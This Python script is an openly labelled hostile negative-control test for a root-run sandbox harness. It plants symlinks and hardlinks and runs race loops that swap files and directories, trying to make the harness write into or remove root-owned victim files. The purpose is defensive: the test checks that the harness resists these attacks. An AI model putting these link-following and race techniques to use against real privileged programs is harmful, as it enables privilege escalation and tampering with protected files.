#!/usr/bin/env python3
"""NEGATIVE CONTROL (test-only), DELIBERATELY HOSTILE: tries to make a root
harness (`collect --run-as USER`) follow its links into root-owned victim
files. Never ship or use this as a sandbox.

    neg-redirect.py adapter VICTIMS WORKDIR MODE    (an agsbx-external/1 adapter)
    neg-redirect.py wrap VICTIMS MODE ARGV...       (a --wrap command prefix)

MODE is symlink, hardlink or race. VICTIMS holds root-owned 0600 files the
harness must never touch: a (bundle.integrity_enforced: source/data.txt),
b (fs.grant_write: output/gw-N), c (the fixture's source/ro-canary.txt),
d/id_key (the $HOME canary: its directory swapped for a link to VICTIMS/d)
and e/id_key (removal of the grant: a directory in output swapped for a
link to VICTIMS/e). hardlink falls back to nothing where the kernel
refuses the link (fs.protected_hardlinks); race swaps a link and a regular
file in a loop for a while after each opening. The adapter also polls
WORKDIR for fresh source roots to swap the fixture's files mid-write and,
racing, the user's home for a fresh canary directory to swap for its own.
Every failure is ignored: the attack is best effort, the test judges the
victims."""
import os, pwd, subprocess, sys, threading, time

RACE_S = 2.0


def note(*a):
    print("neg-redirect:", *a, file=sys.stderr, flush=True)


def plant(target, victim, mode, quiet=False):
    """Replaces target by a link to victim (rename over it: atomic)."""
    tmp = f"{target}.x{os.getpid()}{threading.get_ident() % 10000}"
    try:
        if mode == "hardlink":
            os.link(victim, tmp)
        else:
            os.symlink(victim, tmp)
        os.rename(tmp, target)
        return True
    except OSError as e:
        if not quiet:
            note(f"{mode} {target} -> {victim}: {e}")
        try:
            os.unlink(tmp)
        except OSError:
            pass
        return False


def race(target, victim, is_dir=False, seconds=RACE_S):
    """Swaps target between a link to victim and a thing of its own."""
    end, spare = time.monotonic() + seconds, f"{target}.own{threading.get_ident() % 10000}"
    while time.monotonic() < end:
        try:
            if is_dir:
                os.rename(target, spare)
                os.symlink(victim, target)
                os.unlink(target)
                os.rename(spare, target)
            else:
                with open(spare, "w") as f:
                    f.write("own\n")
                os.rename(spare, target)
                plant(target, victim, "symlink", quiet=True)
        except OSError:
            pass


def attack(target, victim, mode, is_dir=False):
    if mode == "race":
        threading.Thread(target=race, args=(target, victim, is_dir), daemon=True).start()
    else:
        plant(target, victim, "symlink" if is_dir else mode)


def after_step(argv, victims, mode):
    """What the harness does next with the files of this step."""
    for a in argv:
        if "/output/gw-" in a:
            attack(a, f"{victims}/b", mode)                        # (b)
        if "/.agsbx-canary-" in a:
            d = os.path.dirname(a)                                 # (d)
            try:
                os.rename(d, d + ".moved")
            except OSError as e:
                note(f"move {d}: {e}")
            attack(d, f"{victims}/d", mode, is_dir=True)
    p = argv[0] if argv else ""
    if "/integrity-" in p and p.endswith("/source/agsbx-payload"):
        attack(os.path.join(os.path.dirname(p), "data.txt"), f"{victims}/a", mode)   # (a)
        out = os.path.join(os.path.dirname(os.path.dirname(p)), "output")
        removal(out, victims)


def removal(out, victims):
    """(e): a tree in output whose directory becomes a link to VICTIMS/e,
    in a loop while the harness removes the grant."""
    def loop():
        d = os.path.join(out, "tree")
        try:
            os.makedirs(d + "/a/b")
            for i in range(8):
                open(f"{d}/a/f{i}", "w").close()
        except OSError:
            return
        while os.path.isdir(out):
            try:
                os.rename(d, d + ".old")
                os.symlink(f"{victims}/e", d)
                os.unlink(d)
                os.rename(d + ".old", d)
            except OSError:
                pass
    threading.Thread(target=loop, daemon=True).start()


def home_racer(victims):
    """(d), racing: the $HOME canary's directory, made by root in the user's
    home, is swapped for one of the user's whose id_key is a link to the
    victim, and the link re-planted in a loop while root fills it."""
    home, seen = pwd.getpwuid(os.getuid()).pw_dir, set()
    while True:
        try:
            for e in os.scandir(home):
                if not e.name.startswith(".agsbx-canary-") or "." in e.name[1:] or e.name in seen:
                    continue
                if e.is_symlink() or e.stat(follow_symlinks=False).st_uid != 0:
                    continue
                seen.add(e.name)
                os.rename(e.path, e.path + ".moved")
                os.mkdir(e.path)
                end = time.monotonic() + 1
                while time.monotonic() < end:
                    plant(os.path.join(e.path, "id_key"), f"{victims}/d/id_key", "symlink", quiet=True)
        except OSError:
            pass
        time.sleep(0.0002)


def fixture_racer(workdir, victims, mode):
    """(c): the fixture writes source/ro-canary.txt into a root the user owns;
    its temporary file (or, racing, the file itself) becomes a link."""
    while True:
        for run in (e for e in os.scandir(workdir) if e.name.startswith("agsbx-run-")):
            try:
                for prov in os.scandir(run.path):
                    if not prov.is_dir(follow_symlinks=False):
                        continue
                    for area in os.scandir(prov.path):
                        src = os.path.join(area.path, "source")
                        for e in os.scandir(src):
                            if e.name.startswith(".ro-canary.txt.tmp-") and not e.is_symlink():
                                plant(e.path, f"{victims}/c", "symlink" if mode == "race" else mode)
                            elif e.name == "ro-canary.txt" and mode == "race" and not e.is_symlink():
                                plant(e.path, f"{victims}/c", "symlink", quiet=True)
            except OSError:
                pass
        time.sleep(0.0002)


def wrap(victims, mode, argv):
    """The harness ends a wrapper's whole tree with its step, so a wrapper's
    race runs while its step lasts (a moment longer here) and leaves the link."""
    rc = subprocess.call(argv)
    after_step(argv, victims, mode)
    if mode == "race":
        time.sleep(0.5)
    sys.exit(rc)


def adapter(victims, workdir, mode):
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import negbase
    threading.Thread(target=fixture_racer, args=(workdir, victims, mode), daemon=True).start()
    if mode == "race":
        threading.Thread(target=home_racer, args=(victims,), daemon=True).start()

    def execute(q):
        res = negbase.run(q)
        after_step(q["step"]["argv"], victims, mode)
        negbase.send({"id": q["id"], "ok": True, "result": res})
    negbase.serve(execute_fn=execute)


if __name__ == "__main__":
    if sys.argv[1] == "wrap":
        wrap(sys.argv[2], sys.argv[3], sys.argv[4:])
    else:
        adapter(sys.argv[2], sys.argv[3], sys.argv[4])
